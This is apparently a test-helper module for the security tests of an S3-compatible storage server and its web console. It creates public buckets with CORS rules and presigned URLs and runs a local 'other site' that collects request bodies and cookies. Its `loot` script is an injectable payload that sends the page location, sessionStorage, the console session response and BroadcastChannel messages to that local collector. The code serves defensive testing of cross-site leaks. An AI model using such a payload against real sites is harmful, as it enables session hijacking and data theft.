// What an attacker has: buckets to put objects into, addresses of them, and a web server on another
// port of the same machine, which keeps everything that it receives.
import { createServer } from "node:http";
import {
  CreateBucketCommand,
  DeleteBucketCorsCommand,
  DeletePublicAccessBlockCommand,
  PutBucketCorsCommand,
  PutBucketPolicyCommand,
  PutObjectCommand,
  S3Client,
} from "@aws-sdk/client-s3";
import { SignatureV4 } from "@smithy/signature-v4";
import { REGION, ROOT_KEYS } from "./server.mjs";

const PRESIGNED_S = 600;

/** A public bucket, and the ways to its objects. */
export async function openBucket(server, name) {
  const settings = { endpoint: server.origin, region: REGION, credentials: ROOT_KEYS, forcePathStyle: true };
  const s3 = new S3Client(settings);
  await s3.send(new CreateBucketCommand({ Bucket: name, CreateBucketConfiguration: { LocationConstraint: REGION } }));
  await s3.send(new DeletePublicAccessBlockCommand({ Bucket: name }));
  const allow = (...Action) => {
    const statement = { Effect: "Allow", Principal: "*", Action, Resource: `arn:aws:s3:::${name}/*` };
    const Policy = JSON.stringify({ Version: "2012-10-17", Statement: [statement] });
    return s3.send(new PutBucketPolicyCommand({ Bucket: name, Policy }));
  };
  await allow("s3:GetObject");
  return {
    /** Sets what unauthenticated clients may do with its objects. */
    allow,
    /** Sets which pages of other origins may use it; `undefined` for none. */
    cors: (rule) =>
      rule
        ? s3.send(new PutBucketCorsCommand({ Bucket: name, CORSConfiguration: { CORSRules: [rule] } }))
        : s3.send(new DeleteBucketCorsCommand({ Bucket: name })),
    put: (Key, ContentType, Body) => s3.send(new PutObjectCommand({ Bucket: name, Key, ContentType, Body })),
    /** Address of an object without a signature. */
    path: (key) => `http://localhost:${server.port}/${name}/${key}`,
    virtualHost: (key) => `http://${name}.localhost:${server.port}/${key}`,
    /** The same with a signature for a method; `query` is signed, too. */
    async presigned(address, query = {}, method = "GET") {
      const { protocol, hostname, port, host, pathname } = new URL(address);
      const { sha256 } = s3.config;
      const signer = new SignatureV4({ service: "s3", region: REGION, credentials: ROOT_KEYS, sha256, uriEscapePath: false });
      const headers = { host, "x-amz-content-sha256": "UNSIGNED-PAYLOAD" };
      const request = { method, protocol, hostname, port: Number(port), path: pathname, query, headers };
      const signed = await signer.presign(request, { expiresIn: PRESIGNED_S });
      // A blank is `%20` in what is signed, never `+`.
      return `${address}?${new URLSearchParams(signed.query).toString().replaceAll("+", "%20")}`;
    },
  };
}

/** A web application of a third party at another port. `pages` has texts by path. */
export async function startOtherSite(pages = {}) {
  const received = [];
  const cookies = [];
  const server = createServer(async (request, response) => {
    if (request.headers.cookie) cookies.push(request.headers.cookie);
    const { pathname, searchParams } = new URL(request.url, "http://other-site");
    if (pathname === "/received") {
      let body = searchParams.get("text") ?? "";
      for await (const bytes of request) body += bytes;
      received.push(body);
    }
    const page = pages[pathname];
    response.writeHead(200, { "content-type": "text/html; charset=utf-8" });
    response.end(page ?? "");
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    origin: `http://localhost:${server.address().port}`,
    pages,
    /** What reached it. */
    received,
    /** The `Cookie` headers that it was sent. */
    cookies,
    stop: () =>
      new Promise((resolve) => {
        server.close(resolve);
        server.closeAllConnections();
      }),
  };
}

/** A script that sends to the other site that it runs, and everything that it can read. */
export const loot = (otherSite) => `
  document.documentElement?.setAttribute("data-ran", "");
  const send = (text) => fetch("${otherSite.origin}/received", { method: "POST", mode: "no-cors", body: text });
  send("ran at " + location.href);
  fetch("/_console/session").then((answer) => answer.text()).then(send, () => undefined);
  try {
    send("storage " + JSON.stringify(sessionStorage));
    const tabs = new BroadcastChannel("shoseki.session");
    tabs.onmessage = ({ data }) => send("received " + JSON.stringify(data));
    tabs.postMessage({ kind: "asks" });
  } catch {}
`;
